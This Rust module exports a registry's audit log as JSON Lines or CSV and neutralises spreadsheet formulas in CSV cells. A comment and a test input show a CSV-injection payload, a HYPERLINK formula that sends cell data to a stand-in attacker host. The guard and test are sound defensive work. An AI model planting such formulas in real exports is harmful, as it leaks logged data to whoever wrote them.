//! The log as a file: an object per line, or a table.

use std::{str::FromStr, sync::Arc};

use axum::body::{Body, Bytes};
use futures_util::stream;
use http::{HeaderValue, Response, header};
use supercargo_registry::{AuditItem, AuditQuery, Failure, Instance, MayAudit};

/// Entries that are read from the database at a time.
const PAGE: u32 = 500;
const COLUMNS: [&str; 12] = [
    "at",
    "action",
    "outcome",
    "principal",
    "token_id",
    "address",
    "user_agent",
    "registry",
    "crate",
    "version",
    "detail",
    "request_id",
];

/// How it is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Format {
    /// An object per line.
    JsonLines,
    /// RFC 4180, with a line of names.
    Csv,
}

impl FromStr for Format {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        match text {
            "jsonl" => Ok(Self::JsonLines),
            "csv" => Ok(Self::Csv),
            _ => Err(format!(
                "`format` is `json`, `jsonl` or `csv`, not `{text}`"
            )),
        }
    }
}

/// All entries, the newest first, page by page as the client takes them: an export may be larger than the memory.
pub(crate) async fn whole(
    instance: Arc<Instance>,
    right: MayAudit,
    query: AuditQuery,
    format: Format,
) -> Result<Response<Body>, Failure> {
    // what fails at once is answered as a failure
    let first = instance.audit_page(&right, &query, PAGE, None).await?;
    let mut head = Vec::new();
    if format == Format::Csv {
        record(&mut head, &COLUMNS);
    }
    write(&mut head, format, &first);
    let export = Export {
        instance,
        right,
        query,
        format,
    };
    let start = (export, Some(head), next(&first));
    let pieces = stream::try_unfold(start, |(export, head, before)| async move {
        if let Some(head) = head {
            return Ok(Some((Bytes::from(head), (export, None, before))));
        }
        let Some(before) = before else {
            return Ok(None);
        };
        let page = export.page(before).await;
        let page = page.map_err(|failure| broken_off(&failure))?;
        let mut piece = Vec::new();
        write(&mut piece, export.format, &page);
        let before = next(&page);
        Ok::<_, axum::Error>(Some((Bytes::from(piece), (export, None, before))))
    });
    let mut response = Response::new(Body::from_stream(pieces));
    let (kind, name) = match format {
        Format::JsonLines => ("application/jsonl", "attachment; filename=\"audit.jsonl\""),
        Format::Csv => (
            "text/csv; charset=utf-8; header=present",
            "attachment; filename=\"audit.csv\"",
        ),
    };
    let headers = response.headers_mut();
    for (header, value) in [
        (header::CONTENT_TYPE, kind),
        (header::CONTENT_DISPOSITION, name),
        (header::CACHE_CONTROL, "no-store"),
        (header::X_CONTENT_TYPE_OPTIONS, "nosniff"),
    ] {
        headers.insert(header, HeaderValue::from_static(value));
    }
    Ok(response)
}

struct Export {
    instance: Arc<Instance>,
    right: MayAudit,
    query: AuditQuery,
    format: Format,
}

impl Export {
    async fn page(&self, before: i64) -> Result<Vec<AuditItem>, Failure> {
        let Self {
            instance,
            right,
            query,
            ..
        } = self;
        instance.still_may_audit(right).await?;
        instance.audit_page(right, query, PAGE, Some(before)).await
    }
}

/// Where the next page begins, if there is one.
fn next(page: &[AuditItem]) -> Option<i64> {
    let is_full = page.len() == usize::try_from(PAGE).unwrap_or(usize::MAX);
    page.last().filter(|_| is_full).map(|item| item.id)
}

/// Once the answer has begun, all that can be said is that it has no end: whoever reads it must not take it for whole.
fn broken_off(failure: &Failure) -> axum::Error {
    tracing::warn!(?failure, "an export of the audit log broke off");
    axum::Error::new(std::io::Error::other("the export broke off"))
}

fn write(out: &mut Vec<u8>, format: Format, items: &[AuditItem]) {
    for item in items {
        match format {
            Format::JsonLines => {
                serde_json::to_writer(&mut *out, item)
                    .expect("invariant: texts and numbers are JSON, and memory takes every write");
                out.push(b'\n');
            }
            Format::Csv => {
                let at = item.at.to_string();
                let text = |text: &Option<String>| text.clone().unwrap_or_default();
                let cells = [
                    at,
                    item.action.clone(),
                    item.outcome.to_owned(),
                    text(&item.principal),
                    text(&item.token_id),
                    text(&item.address),
                    text(&item.user_agent),
                    text(&item.registry),
                    text(&item.crate_name),
                    text(&item.version),
                    text(&item.detail),
                    text(&item.request_id),
                ];
                record(out, &cells);
            }
        }
    }
}

/// A line of a table.
pub(crate) fn record(out: &mut Vec<u8>, cells: &[impl AsRef<str>]) {
    for (place, cell) in cells.iter().enumerate() {
        if place > 0 {
            out.push(b',');
        }
        push_cell(out, cell.as_ref());
    }
    out.extend(b"\r\n");
}

fn push_cell(out: &mut Vec<u8>, cell: &str) {
    // A spreadsheet computes what begins like this. A user agent `=HYPERLINK("http://evil.example/?"&A1)` would send the log
    // to its author when an auditor opens it (CSV injection, CWE-1236).
    let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let guard = if is_formula { "'" } else { "" };
    if cell.contains(['"', ',', '\r', '\n']) {
        let quoted = cell.replace('"', "\"\"");
        out.extend(format!("\"{guard}{quoted}\"").as_bytes());
    } else {
        out.extend(guard.as_bytes());
        out.extend(cell.as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_is_never_a_formula_and_never_more_than_one_cell() {
        let cells = [
            "",
            "plain",
            "a,b",
            "say \"no\"",
            "two\nlines",
            "=1+1",
            "+49",
            "-1",
            "@sum",
            "=HYPERLINK(\"http://evil.example\",A1)",
            "\tx",
            "a=b",
        ];
        let mut out = Vec::new();
        record(&mut out, &cells);
        let shown = String::from_utf8(out).unwrap().replace('\t', "\\t");
        insta::assert_snapshot!(shown.trim_end(), @r#"
        ,plain,"a,b","say ""no""","two
        lines",'=1+1,'+49,'-1,'@sum,"'=HYPERLINK(""http://evil.example"",A1)",'\tx,a=b
        "#);
    }
}
